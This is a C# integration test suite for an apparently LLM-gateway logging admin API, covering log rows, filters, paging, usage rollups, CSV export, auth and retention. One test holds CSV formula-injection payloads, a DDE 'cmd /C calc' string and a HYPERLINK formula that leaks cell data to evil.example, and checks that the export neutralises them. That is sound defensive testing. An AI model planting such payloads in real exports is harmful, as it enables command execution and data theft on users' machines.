using System.Net;
using System.Net.Http.Headers;
using System.Text.Json;
using NexRelay.Contracts.Messages;
using NexRelay.Logging.Logs;

namespace NexRelay.Logging.Tests.Apis;

public sealed class LogsApiTests(LoggingFixture fixture) : IClassFixture<LoggingFixture>
{
    private static readonly DateTimeOffset Base = DateTimeOffset.UtcNow.AddHours(-2);

    [Fact]
    public async Task A_sent_event_becomes_a_row_with_every_field()
    {
        var wallet = Guid.NewGuid();
        var e = Events.Make(wallet) with
        {
            Stream = true, TtftMs = 7.5, FinishReason = "stop", UsageEstimated = true, UsageClamped = true,
            HeldMicros = 123_456, CostMicros = 1_000_001, RequestBody = "{\"q\":1}", ResponseBody = "{\"a\":2}",
        };
        await fixture.SendAsync(e);
        await fixture.WaitForWalletRowsAsync(wallet, 1);

        var row = await fixture.GetJsonAsync($"/admin/v1/logs/{e.RequestId}");
        Assert.Equal(e.RequestId, row.GetProperty("request_id").GetString());
        Assert.Equal(e.CreatedAt.ToUnixTimeMilliseconds(), row.GetProperty("created_at").GetDateTimeOffset().ToUnixTimeMilliseconds());
        Assert.Equal(e.KeyId, row.GetProperty("key_id").GetGuid());
        Assert.Equal(e.KeyHint, row.GetProperty("key_hint").GetString());
        Assert.Equal(wallet, row.GetProperty("wallet_id").GetGuid());
        Assert.Equal("openai-chat", row.GetProperty("client_format").GetString());
        Assert.Equal("/v1/chat/completions", row.GetProperty("route").GetString());
        Assert.Equal("gpt-4o-mini", row.GetProperty("model").GetString());
        Assert.Equal("simulated", row.GetProperty("upstream_provider").GetString());
        Assert.Equal("gpt-4o-mini-upstream", row.GetProperty("upstream_model").GetString());
        Assert.True(row.GetProperty("stream").GetBoolean());
        Assert.Equal(200, row.GetProperty("status").GetInt32());
        Assert.Equal(JsonValueKind.Null, row.GetProperty("error_code").ValueKind);
        Assert.Equal(10, row.GetProperty("input_tokens").GetInt64());
        Assert.Equal(2, row.GetProperty("cached_input_tokens").GetInt64());
        Assert.Equal(5, row.GetProperty("output_tokens").GetInt64());
        Assert.Equal(1, row.GetProperty("reasoning_tokens").GetInt64());
        Assert.True(row.GetProperty("usage_estimated").GetBoolean());
        Assert.True(row.GetProperty("usage_clamped").GetBoolean());
        Assert.Equal(0.123456m, row.GetProperty("held_usd").GetDecimal());
        Assert.Equal(1.000001m, row.GetProperty("cost_usd").GetDecimal());
        Assert.Equal(12.5, row.GetProperty("latency_ms").GetDouble());
        Assert.Equal(3.25, row.GetProperty("upstream_ttfb_ms").GetDouble());
        Assert.Equal(7.5, row.GetProperty("ttft_ms").GetDouble());
        Assert.Equal("stop", row.GetProperty("finish_reason").GetString());
        Assert.Equal("127.0.0.1", row.GetProperty("client_ip").GetString());
        Assert.Equal("tests/1.0", row.GetProperty("user_agent").GetString());
        Assert.Equal("{\"q\":1}", row.GetProperty("request_body").GetString());
        Assert.Equal("{\"a\":2}", row.GetProperty("response_body").GetString());
    }

    [Fact]
    public async Task A_published_event_reaches_the_queue_through_its_message_type_binding()
    {
        var wallet = Guid.NewGuid();
        var e = Events.Make(wallet) with { HeldMicros = 0, CostMicros = 0 }; // nothing for billing to settle if it listens
        await fixture.PublishAsync(e);
        var rows = await fixture.WaitForWalletRowsAsync(wallet, 1);
        Assert.Equal(e.RequestId, rows[0].GetProperty("request_id").GetString());
    }

    [Fact]
    public async Task A_nul_character_in_a_body_does_not_fail_its_batch()
    {
        var wallet = Guid.NewGuid();
        var bad = Events.Make(wallet) with { RequestBody = "before\0after" };
        var good = Events.Make(wallet);
        await fixture.SendAsync(bad, good);
        await fixture.WaitForWalletRowsAsync(wallet, 2);
        var row = await fixture.GetJsonAsync($"/admin/v1/logs/{bad.RequestId}");
        Assert.Equal("before\uFFFDafter", row.GetProperty("request_body").GetString());
    }

    [Fact]
    public async Task Filters_with_a_nul_character_find_what_was_stored_instead_of_failing()
    {
        // PostgreSQL text cannot hold NUL: a model or cursor with one was a 500 (the edge's self-service: a 503). (A NUL in the
        // path, a request id, never gets here: Kestrel refuses it.)
        var wallet = Guid.NewGuid();
        var e = Events.Make(wallet, model: "gpt\0x", requestId: $"req_{Guid.NewGuid():N}\0");
        await fixture.SendAsync(e);
        await fixture.WaitForWalletRowsAsync(wallet, 1);

        using var byModel = await fixture.Client.GetAsync($"/admin/v1/logs?wallet_id={wallet}&model={Uri.EscapeDataString("gpt\0x")}");
        Assert.Equal(HttpStatusCode.OK, byModel.StatusCode);
        Assert.Equal(1, JsonDocument.Parse(await byModel.Content.ReadAsStringAsync()).RootElement.GetProperty("data").GetArrayLength());
        using var usage = await fixture.Client.GetAsync($"/admin/v1/usage?wallet_id={wallet}&model=%00");
        Assert.Equal(HttpStatusCode.OK, usage.StatusCode);
        var cursor = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("1700000000000000:\0")).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        using var paged = await fixture.Client.GetAsync($"/admin/v1/logs?wallet_id={wallet}&cursor={cursor}");
        Assert.Equal(HttpStatusCode.OK, paged.StatusCode);
    }

    [Fact]
    public async Task Bodies_are_absent_from_the_json_when_not_kept()
    {
        var wallet = Guid.NewGuid();
        var e = Events.Make(wallet);
        await fixture.SendAsync(e);
        var row = (await fixture.WaitForWalletRowsAsync(wallet, 1))[0];
        Assert.False(row.TryGetProperty("request_body", out _));
        Assert.False(row.TryGetProperty("response_body", out _));
        Assert.Equal(JsonValueKind.Null, row.GetProperty("ttft_ms").ValueKind);
    }

    [Fact]
    public async Task The_same_event_delivered_five_times_makes_one_row()
    {
        var wallet = Guid.NewGuid();
        var e = Events.Make(wallet, createdAt: Base);
        await fixture.SendAsync(e, e, e, e, e);
        // A later marker: once it is stored, every copy before it has been consumed too.
        var marker = Events.Make(wallet, createdAt: Base.AddSeconds(1));
        await fixture.SendAsync(marker);
        await Task.Delay(500);
        var rows = await fixture.WaitForWalletRowsAsync(wallet, 2);
        Assert.Equal([marker.RequestId, e.RequestId], rows.Select(r => r.GetProperty("request_id").GetString()));
    }

    [Fact]
    public async Task Filters_select_by_wallet_key_model_status_and_time()
    {
        var wallet = Guid.NewGuid();
        var keyA = Guid.NewGuid();
        var keyB = Guid.NewGuid();
        var events = new[]
        {
            Events.Make(wallet, keyA, "gpt-4o", 200, Base.AddMinutes(1)),
            Events.Make(wallet, keyA, "claude-sonnet", 402, Base.AddMinutes(2)),
            Events.Make(wallet, keyB, "gpt-4o", 429, Base.AddMinutes(3)),
            Events.Make(wallet, keyB, "gpt-4o", 200, Base.AddMinutes(4)),
            Events.Make(Guid.NewGuid(), keyA, "gpt-4o", 200, Base.AddMinutes(5)),
        };
        await fixture.SendAsync(events);
        await fixture.WaitForWalletRowsAsync(wallet, 4);
        await fixture.WaitForWalletRowsAsync(events[4].WalletId!.Value, 1);

        async Task<string?[]> Ids(string query)
        {
            var page = await fixture.GetJsonAsync($"/admin/v1/logs?{query}");
            return page.GetProperty("data").EnumerateArray().Select(r => r.GetProperty("request_id").GetString()).ToArray();
        }
        string?[] Expect(params int[] indexes) => indexes.Select(i => events[i].RequestId).ToArray<string?>();

        Assert.Equal(Expect(3, 2, 1, 0), await Ids($"wallet_id={wallet}"));
        Assert.Equal(Expect(4, 1, 0), await Ids($"key_id={keyA}"));
        Assert.Equal(Expect(1, 0), await Ids($"wallet_id={wallet}&key_id={keyA}"));
        Assert.Equal(Expect(3, 2, 0), await Ids($"wallet_id={wallet}&model=gpt-4o"));
        Assert.Equal(Expect(3, 0), await Ids($"wallet_id={wallet}&status=200"));
        Assert.Equal(Expect(2), await Ids($"wallet_id={wallet}&status=429"));
        var from = Uri.EscapeDataString(Base.AddMinutes(2).ToString("O"));
        var to = Uri.EscapeDataString(Base.AddMinutes(4).ToString("O"));
        Assert.Equal(Expect(2, 1), await Ids($"wallet_id={wallet}&from={from}&to={to}"));
        Assert.Equal(Expect(3, 2, 1), await Ids($"wallet_id={wallet}&from={from}"));
        Assert.Empty(await Ids($"wallet_id={wallet}&model=nope"));
    }

    [Fact]
    public async Task Pages_follow_cursors_newest_first_without_duplicates_or_gaps()
    {
        var wallet = Guid.NewGuid();
        // Several rows share a timestamp, so the cursor must break ties by request id.
        var events = Enumerable.Range(0, 23)
            .Select(i => Events.Make(wallet, createdAt: Base.AddSeconds(i / 3), requestId: $"req_page_{wallet:N}_{i:D2}"))
            .ToArray();
        await fixture.SendAsync(events);
        await fixture.WaitForWalletRowsAsync(wallet, events.Length);

        var expected = events.OrderByDescending(e => e.CreatedAt).ThenByDescending(e => e.RequestId, StringComparer.Ordinal)
            .Select(e => e.RequestId).ToList();
        var seen = new List<string>();
        string? cursor = null;
        var pages = 0;
        do
        {
            var page = await fixture.GetJsonAsync($"/admin/v1/logs?wallet_id={wallet}&limit=5" + (cursor is null ? "" : $"&cursor={cursor}"));
            var data = page.GetProperty("data").EnumerateArray().ToArray();
            Assert.InRange(data.Length, 1, 5);
            seen.AddRange(data.Select(r => r.GetProperty("request_id").GetString()!));
            cursor = page.GetProperty("next_cursor").ValueKind == JsonValueKind.Null ? null : page.GetProperty("next_cursor").GetString();
            pages++;
        } while (cursor is not null && pages < 10);

        Assert.Equal(5, pages);
        Assert.Equal(expected, seen);
    }

    [Fact]
    public async Task A_full_last_page_has_no_next_cursor()
    {
        var wallet = Guid.NewGuid();
        await fixture.SendAsync(Events.Make(wallet), Events.Make(wallet));
        await fixture.WaitForWalletRowsAsync(wallet, 2);
        var page = await fixture.GetJsonAsync($"/admin/v1/logs?wallet_id={wallet}&limit=2");
        Assert.Equal(2, page.GetProperty("data").GetArrayLength());
        Assert.Equal(JsonValueKind.Null, page.GetProperty("next_cursor").ValueKind);
    }

    [Theory]
    [InlineData("/admin/v1/logs?limit=0", "limit")]
    [InlineData("/admin/v1/logs?limit=1001", "limit")]
    [InlineData("/admin/v1/logs?limit=ten", "limit")]
    [InlineData("/admin/v1/logs?limit=-5", "limit")]
    [InlineData("/admin/v1/logs?cursor=%21%21%21", "cursor")]
    [InlineData("/admin/v1/logs?cursor=aGVsbG8", "cursor")]
    [InlineData("/admin/v1/logs?wallet_id=not-a-uuid", "wallet_id")]
    [InlineData("/admin/v1/logs?key_id=123", "key_id")]
    [InlineData("/admin/v1/logs?status=abc", "status")]
    [InlineData("/admin/v1/logs?status=99", "status")]
    [InlineData("/admin/v1/logs?status=600", "status")]
    [InlineData("/admin/v1/logs?from=yesterday", "from")]
    [InlineData("/admin/v1/logs?to=2026-13-45", "to")]
    [InlineData("/admin/v1/logs?from=2026-02-01&to=2026-01-01", "to")]
    [InlineData("/admin/v1/logs/req_1?key_id=nope", "key_id")]
    [InlineData("/admin/v1/usage?group_by=hour", "group_by")]
    [InlineData("/admin/v1/usage?group_by=day,day", "group_by")]
    [InlineData("/admin/v1/usage?group_by=day,planet", "group_by")]
    [InlineData("/admin/v1/usage?group_by=model,", "group_by")]
    [InlineData("/admin/v1/usage?from=31/12/2025", "from")]
    [InlineData("/admin/v1/usage?wallet_id=zzz", "wallet_id")]
    public async Task A_bad_filter_value_is_a_400_naming_the_parameter(string url, string parameter)
    {
        var response = await fixture.Client.GetAsync(url);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
        Assert.True(problem.GetProperty("errors").TryGetProperty(parameter, out _), $"errors should name {parameter}: {problem}");
        Assert.Contains(parameter, problem.GetProperty("detail").GetString());
    }

    [Fact]
    public async Task A_key_filter_hides_another_keys_row_on_get_by_id()
    {
        var wallet = Guid.NewGuid();
        var owner = Guid.NewGuid();
        var e = Events.Make(wallet, owner);
        await fixture.SendAsync(e);
        await fixture.WaitForWalletRowsAsync(wallet, 1);

        Assert.Equal(HttpStatusCode.OK, (await fixture.Client.GetAsync($"/admin/v1/logs/{e.RequestId}?key_id={owner}")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await fixture.Client.GetAsync($"/admin/v1/logs/{e.RequestId}")).StatusCode);
        var other = await fixture.Client.GetAsync($"/admin/v1/logs/{e.RequestId}?key_id={Guid.NewGuid()}");
        Assert.Equal(HttpStatusCode.NotFound, other.StatusCode);
        Assert.Equal("application/problem+json", other.Content.Headers.ContentType?.MediaType);
        // And the list for another key does not include it.
        var page = await fixture.GetJsonAsync($"/admin/v1/logs?wallet_id={wallet}&key_id={Guid.NewGuid()}");
        Assert.Equal(0, page.GetProperty("data").GetArrayLength());
    }

    [Fact]
    public async Task An_unknown_request_id_is_404()
    {
        var response = await fixture.Client.GetAsync($"/admin/v1/logs/req_{Guid.NewGuid():N}");
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }

    [Fact]
    public async Task Usage_sums_tokens_and_cost_grouped_by_model_key_and_day()
    {
        var wallet = Guid.NewGuid();
        var keyA = Guid.NewGuid();
        var keyB = Guid.NewGuid();
        var day1 = new DateTimeOffset(DateTime.UtcNow.Date.AddHours(-1), TimeSpan.Zero); // yesterday 23:00 UTC
        var day2 = new DateTimeOffset(DateTime.UtcNow.Date.AddMinutes(1), TimeSpan.Zero); // today 00:01 UTC
        await fixture.SendAsync(
            Events.Make(wallet, keyA, "gpt-4o", createdAt: day1, input: 100, output: 10, costMicros: 1_000_001),
            Events.Make(wallet, keyA, "claude", createdAt: day2, input: 200, output: 20, costMicros: 2),
            Events.Make(wallet, keyB, "gpt-4o", createdAt: day2, input: 300, output: 30, costMicros: 500_000));
        await fixture.WaitForWalletRowsAsync(wallet, 3);

        var byModel = await fixture.GetJsonAsync($"/admin/v1/usage?wallet_id={wallet}&group_by=model");
        var groups = byModel.GetProperty("data").EnumerateArray().ToDictionary(g => g.GetProperty("group").GetString()!);
        Assert.Equal(["claude", "gpt-4o"], groups.Keys.Order());
        Assert.Equal(2, groups["gpt-4o"].GetProperty("requests").GetInt64());
        Assert.Equal(400, groups["gpt-4o"].GetProperty("input_tokens").GetInt64());
        Assert.Equal(4, groups["gpt-4o"].GetProperty("cached_input_tokens").GetInt64());
        Assert.Equal(40, groups["gpt-4o"].GetProperty("output_tokens").GetInt64());
        Assert.Equal(2, groups["gpt-4o"].GetProperty("reasoning_tokens").GetInt64());
        Assert.Equal(1.500001m, groups["gpt-4o"].GetProperty("cost_usd").GetDecimal());
        Assert.Equal(0.000002m, groups["claude"].GetProperty("cost_usd").GetDecimal());
        var totals = byModel.GetProperty("totals");
        Assert.Equal(3, totals.GetProperty("requests").GetInt64());
        Assert.Equal(600, totals.GetProperty("input_tokens").GetInt64());
        Assert.Equal(60, totals.GetProperty("output_tokens").GetInt64());
        Assert.Equal(1.500003m, totals.GetProperty("cost_usd").GetDecimal());

        var byKey = await fixture.GetJsonAsync($"/admin/v1/usage?wallet_id={wallet}&group_by=key");
        var keys = byKey.GetProperty("data").EnumerateArray().ToDictionary(g => Guid.Parse(g.GetProperty("group").GetString()!));
        Assert.Equal(2, keys[keyA].GetProperty("requests").GetInt64());
        Assert.Equal(1.000003m, keys[keyA].GetProperty("cost_usd").GetDecimal());
        Assert.Equal(0.5m, keys[keyB].GetProperty("cost_usd").GetDecimal());

        var byDay = await fixture.GetJsonAsync($"/admin/v1/usage?wallet_id={wallet}&group_by=day");
        var days = byDay.GetProperty("data").EnumerateArray().ToArray();
        Assert.Equal([day1.ToString("yyyy-MM-dd"), day2.ToString("yyyy-MM-dd")], days.Select(d => d.GetProperty("group").GetString()));
        Assert.Equal([1L, 2L], days.Select(d => d.GetProperty("requests").GetInt64()));

        var keyOnly = await fixture.GetJsonAsync($"/admin/v1/usage?wallet_id={wallet}&key_id={keyB}");
        Assert.Equal(1, keyOnly.GetProperty("totals").GetProperty("requests").GetInt64());
        Assert.Equal(0.5m, keyOnly.GetProperty("totals").GetProperty("cost_usd").GetDecimal());
    }

    [Fact]
    public async Task Usage_over_whole_days_and_partial_edges_counts_exactly_the_rows_in_the_range()
    {
        // Rows on both sides of two midnights (within the fixture's two-day retention), read through ranges that take whole
        // days from the rollup, partial days from the rows, or both: each answer is what the rows in [from, to) add up to.
        var wallet = Guid.NewGuid();
        var key = Guid.NewGuid();
        var today = new DateTimeOffset(DateTime.UtcNow.Date, TimeSpan.Zero);
        var times = new[] { -1439, -1200, -600, -1, 0, 1, 120, 600 }.Select(m => today.AddMinutes(m)).Where(t => t < DateTimeOffset.UtcNow).ToArray();
        var events = times.Select((t, i) => Events.Make(wallet, key, i % 2 == 0 ? "gpt-4o" : "claude", status: i % 3 == 0 ? 402 : 200, createdAt: t,
            input: 100 + i, output: 10 + i, costMicros: 1_000 * (i + 1))).ToArray();
        await fixture.SendAsync(events);
        await fixture.WaitForWalletRowsAsync(wallet, events.Length);

        DateTimeOffset?[] bounds = [null, today.AddDays(-1), today.AddMinutes(-700), today.AddMinutes(-1), today, today.AddSeconds(30), today.AddMinutes(300), today.AddDays(1)];
        foreach (var from in bounds)
        {
            foreach (var to in bounds.Where(t => t is null || from is null || t > from))
            {
                var query = $"/admin/v1/usage?key_id={key}&group_by=model" + (from is { } f ? $"&from={Uri.EscapeDataString(f.ToString("o"))}" : "")
                    + (to is { } t ? $"&to={Uri.EscapeDataString(t.ToString("o"))}" : "");
                var expected = events.Where(e => (from is null || e.CreatedAt >= from) && (to is null || e.CreatedAt < to)).ToArray();
                var usage = await fixture.GetJsonAsync(query);
                var totals = usage.GetProperty("totals");
                Assert.True(expected.Length == totals.GetProperty("requests").GetInt64(), $"{query}: {totals}");
                Assert.Equal(expected.Sum(e => e.InputTokens), totals.GetProperty("input_tokens").GetInt64());
                Assert.Equal(expected.Sum(e => e.CostMicros) / 1_000_000m, totals.GetProperty("cost_usd").GetDecimal());
                var groups = usage.GetProperty("data").EnumerateArray().ToDictionary(g => g.GetProperty("group").GetString()!, g => g.GetProperty("requests").GetInt64());
                Assert.Equal(expected.GroupBy(e => e.Model!).ToDictionary(g => g.Key, g => (long)g.Count()), groups);

                var errors = await fixture.GetJsonAsync(query + "&status=402");
                Assert.Equal(expected.Count(e => e.Status == 402), errors.GetProperty("totals").GetProperty("requests").GetInt64());
            }
        }

        var byDay = await fixture.GetJsonAsync($"/admin/v1/usage?key_id={key}&group_by=day&from={Uri.EscapeDataString(today.AddMinutes(-700).ToString("o"))}");
        Assert.Equal(
            events.Where(e => e.CreatedAt >= today.AddMinutes(-700)).GroupBy(e => e.CreatedAt.UtcDateTime.ToString("yyyy-MM-dd")).Select(g => $"{g.Key}:{g.Count()}"),
            byDay.GetProperty("data").EnumerateArray().Select(d => $"{d.GetProperty("group").GetString()}:{d.GetProperty("requests").GetInt64()}"));
    }

    [Fact]
    public async Task A_redelivered_batch_adds_nothing_to_the_usage_rollup_and_the_rollup_matches_the_rows()
    {
        var wallet = Guid.NewGuid();
        var store = new RequestLogStore(fixture.DataSource);
        var events = Enumerable.Range(0, 20).Select(i => Events.Make(wallet, createdAt: DateTimeOffset.UtcNow.AddMinutes(-i * 90), costMicros: 7 + i)).ToArray();
        Assert.Equal(20, await store.InsertAsync(events, CancellationToken.None));
        Assert.Equal(0, await store.InsertAsync(events, CancellationToken.None));
        Assert.Equal(1, await store.InsertAsync([.. events.Take(5), Events.Make(wallet, costMicros: 1)], CancellationToken.None));

        var usage = await fixture.GetJsonAsync($"/admin/v1/usage?wallet_id={wallet}");
        Assert.Equal(21, usage.GetProperty("totals").GetProperty("requests").GetInt64());
        Assert.Equal((events.Sum(e => e.CostMicros) + 1) / 1_000_000m, usage.GetProperty("totals").GetProperty("cost_usd").GetDecimal());

        // The rollup (with what is still pending) is derivable from the rows: per day, key, model and status, the same counts
        // and sums, both ways.
        await using var check = fixture.DataSource.CreateCommand("""
            WITH raw AS (
                SELECT (created_at AT TIME ZONE 'UTC')::date AS day, key_id, model, status, count(*) AS requests, sum(input_tokens) AS input_tokens,
                       sum(cost_micros) AS cost_micros
                FROM request_logs WHERE wallet_id = $1 GROUP BY 1, 2, 3, 4),
            rolled AS (
                SELECT day, key_id, model, status, sum(requests), sum(input_tokens), sum(cost_micros)
                FROM (SELECT * FROM usage_daily UNION ALL SELECT * FROM usage_pending) AS u WHERE wallet_id = $1 GROUP BY 1, 2, 3, 4)
            SELECT (SELECT count(*) FROM (SELECT * FROM raw EXCEPT SELECT * FROM rolled) AS missing)
                 + (SELECT count(*) FROM (SELECT * FROM rolled EXCEPT SELECT * FROM raw) AS extra)
                 + (SELECT CASE WHEN count(*) = 21 THEN 0 ELSE 1 END FROM request_logs WHERE wallet_id = $1)
            """);
        check.Parameters.Add(new Npgsql.NpgsqlParameter { Value = wallet });
        Assert.Equal(0L, await check.ExecuteScalarAsync());

        // And the rollup across wallets from every row of the database (rows and rollups commit together, so one statement
        // sees them agree whatever else is being stored), for the days the fixture's two-day retention has not purged yet.
        await using var global = fixture.DataSource.CreateCommand("""
            WITH raw AS (
                SELECT (created_at AT TIME ZONE 'UTC')::date AS day, model, status, count(*) AS requests, sum(output_tokens) AS output_tokens,
                       sum(cost_micros) AS cost_micros
                FROM request_logs WHERE created_at >= (date_trunc('day', now() AT TIME ZONE 'UTC') - interval '1 day') AT TIME ZONE 'UTC' GROUP BY 1, 2, 3),
            rolled AS (
                SELECT day, model, status, sum(requests), sum(output_tokens), sum(cost_micros)
                FROM (SELECT day, model, status, requests, output_tokens, cost_micros FROM usage_daily_all
                      UNION ALL SELECT day, model, status, requests, output_tokens, cost_micros FROM usage_pending) AS u
                WHERE day >= (now() AT TIME ZONE 'UTC')::date - 1 GROUP BY 1, 2, 3)
            SELECT (SELECT count(*) FROM (SELECT * FROM raw EXCEPT SELECT * FROM rolled) AS missing)
                 + (SELECT count(*) FROM (SELECT * FROM rolled EXCEPT SELECT * FROM raw) AS extra)
            """);
        Assert.Equal(0L, await global.ExecuteScalarAsync());

        // The pump folds the pending totals into the rollup within a few of its one-second rounds.
        await using var pending = fixture.DataSource.CreateCommand("SELECT count(*) FROM usage_pending WHERE wallet_id = $1");
        pending.Parameters.Add(new Npgsql.NpgsqlParameter { Value = wallet });
        var deadline = DateTime.UtcNow.AddSeconds(30);
        while ((long)(await pending.ExecuteScalarAsync())! > 0)
        {
            Assert.True(DateTime.UtcNow < deadline, "pending usage was never folded into the rollup");
            await Task.Delay(200);
        }
        await using var rolledUp = fixture.DataSource.CreateCommand("SELECT sum(requests)::bigint, sum(cost_micros)::bigint FROM usage_daily WHERE wallet_id = $1");
        rolledUp.Parameters.Add(new Npgsql.NpgsqlParameter { Value = wallet });
        await using (var reader = await rolledUp.ExecuteReaderAsync())
        {
            Assert.True(await reader.ReadAsync());
            Assert.Equal(21L, reader.GetInt64(0));
            Assert.Equal(events.Sum(e => e.CostMicros) + 1, reader.GetInt64(1));
        }
        Assert.Equal(0L, await check.ExecuteScalarAsync());
    }

    [Fact]
    public async Task Token_counts_near_the_bigint_maximum_are_stored_and_their_usage_saturates_instead_of_failing_the_batch()
    {
        // Clients and upstreams report tokens; a row may hold close to long.MaxValue, and two of them in one batch, one day
        // and one rollup row must still be stored (an overflow would fail the whole batch and every log row in it).
        var wallet = Guid.NewGuid();
        var key = Guid.NewGuid();
        var store = new RequestLogStore(fixture.DataSource);
        var huge = Enumerable.Range(0, 3).Select(_ => Events.Make(wallet, key, input: long.MaxValue - 10, output: long.MaxValue / 2)).ToArray();
        Assert.Equal(4, await store.InsertAsync([.. huge, Events.Make(wallet, key)], CancellationToken.None));
        Assert.Equal(1, await store.InsertAsync([Events.Make(wallet, key, input: long.MaxValue)], CancellationToken.None));

        var usage = await fixture.GetJsonAsync($"/admin/v1/usage?key_id={key}&group_by=day");
        Assert.Equal(5, usage.GetProperty("totals").GetProperty("requests").GetInt64());
        Assert.Equal(long.MaxValue, usage.GetProperty("totals").GetProperty("input_tokens").GetInt64());
        Assert.Equal(long.MaxValue, usage.GetProperty("totals").GetProperty("output_tokens").GetInt64());
    }

    [Fact]
    public async Task Csv_export_holds_every_matching_row_quoted_so_it_parses_back()
    {
        var wallet = Guid.NewGuid();
        var tricky = Events.Make(wallet, createdAt: Base.AddMinutes(1)) with
        {
            UserAgent = "agent, with \"quotes\"", RequestBody = "line one\nline two, \"x\"", CostMicros = 2_500_000,
        };
        var events = Enumerable.Range(0, 1200).Select(i => Events.Make(wallet, createdAt: Base.AddMilliseconds(i))).Append(tricky).ToArray();
        await fixture.SendAsync(events);
        await WaitForCountAsync(wallet, events.Length); // more than one JSON page holds (1000): the export is not capped

        using var request = new HttpRequestMessage(HttpMethod.Get, $"/admin/v1/logs?wallet_id={wallet}");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        using var response = await fixture.Client.SendAsync(request, HttpCompletionOption.ResponseHeadersRead);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Null(response.Content.Headers.ContentLength); // streamed (chunked), not buffered

        var records = Csv.Parse(await response.Content.ReadAsStringAsync());
        Assert.Equal(CsvExportResult.Header, records[0]);
        Assert.Equal(events.Length + 1, records.Count);
        var ids = records.Skip(1).Select(r => r[0]).ToList();
        Assert.Equal(ids.Count, ids.Distinct().Count());
        var row = records.Single(r => r[0] == tricky.RequestId);
        var column = (string name) => row[Array.IndexOf(CsvExportResult.Header, name)];
        Assert.Equal(tricky.UserAgent, column("user_agent"));
        Assert.Equal(tricky.RequestBody, column("request_body"));
        Assert.Equal("2.5", column("cost_usd"));
        Assert.Equal(wallet.ToString(), column("wallet_id"));
        Assert.Equal("", column("response_body"));
        Assert.Equal(tricky.RequestId, records[1][0]); // newest first
    }

    [Fact]
    public async Task Csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas()
    {
        var wallet = Guid.NewGuid();
        var hostile = Events.Make(wallet, model: "=cmd|' /C calc'!A0") with
        {
            UserAgent = "@SUM(1+9)*cmd|' /C calc'!A0", RequestBody = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            ResponseBody = "+1+1", FinishReason = "-2+3", ErrorCode = "\t=1+1",
        };
        await fixture.SendAsync(hostile);
        await fixture.WaitForWalletRowsAsync(wallet, 1);

        using var request = new HttpRequestMessage(HttpMethod.Get, $"/admin/v1/logs?wallet_id={wallet}");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        using var response = await fixture.Client.SendAsync(request);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);

        var records = Csv.Parse(await response.Content.ReadAsStringAsync());
        var row = records.Single(r => r[0] == hostile.RequestId);
        var column = (string name) => row[Array.IndexOf(CsvExportResult.Header, name)];
        Assert.Equal("'" + hostile.Model, column("model"));
        Assert.Equal("'" + hostile.UserAgent, column("user_agent"));
        Assert.Equal("'" + hostile.RequestBody, column("request_body"));
        Assert.Equal("'" + hostile.ResponseBody, column("response_body"));
        Assert.Equal("'" + hostile.FinishReason, column("finish_reason"));
        Assert.Equal("'" + hostile.ErrorCode, column("error_code"));
        // The other cells are as before.
        Assert.Equal(hostile.KeyId.ToString(), column("key_id"));
        Assert.Equal("0.0015", column("cost_usd"));
        Assert.Equal("12.5", column("latency_ms"));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("Bearer wrong-token")]
    [InlineData("Basic dGVzdDp0ZXN0")]
    [InlineData("Bearer ")]
    public async Task Requests_without_the_admin_token_are_401(string? authorization)
    {
        foreach (var url in new[] { "/admin/v1/logs", "/admin/v1/logs/req_1", "/admin/v1/usage" })
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, url);
            request.Headers.Authorization = null;
            if (authorization is not null) request.Headers.TryAddWithoutValidation("Authorization", authorization);
            using var client = fixture.NewClient();
            var response = await client.SendAsync(request);
            Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        }
    }

    [Fact]
    public async Task Rows_older_than_the_retention_period_are_purged_and_newer_rows_kept()
    {
        var wallet = Guid.NewGuid();
        var store = new RequestLogStore(fixture.DataSource);
        var old = Events.Make(wallet, createdAt: DateTimeOffset.UtcNow.AddDays(-3));
        var older = Events.Make(wallet, createdAt: DateTimeOffset.UtcNow.AddDays(-40));
        var recent = Events.Make(wallet, createdAt: DateTimeOffset.UtcNow.AddHours(-40));
        Assert.Equal(3, await store.InsertAsync([old, older, recent], CancellationToken.None));

        // Retention is two days, purged every second.
        var rows = await fixture.WaitForWalletRowsAsync(wallet, 1);
        Assert.Equal(recent.RequestId, rows[0].GetProperty("request_id").GetString());
        Assert.Equal(HttpStatusCode.NotFound, (await fixture.Client.GetAsync($"/admin/v1/logs/{old.RequestId}")).StatusCode);
    }

    private async Task WaitForCountAsync(Guid wallet, int count)
    {
        var deadline = DateTime.UtcNow.AddSeconds(30);
        while (true)
        {
            var usage = await fixture.GetJsonAsync($"/admin/v1/usage?wallet_id={wallet}");
            var requests = usage.GetProperty("totals").GetProperty("requests").GetInt64();
            if (requests >= count || DateTime.UtcNow > deadline)
            {
                Assert.Equal(count, requests);
                return;
            }
            await Task.Delay(100);
        }
    }
}
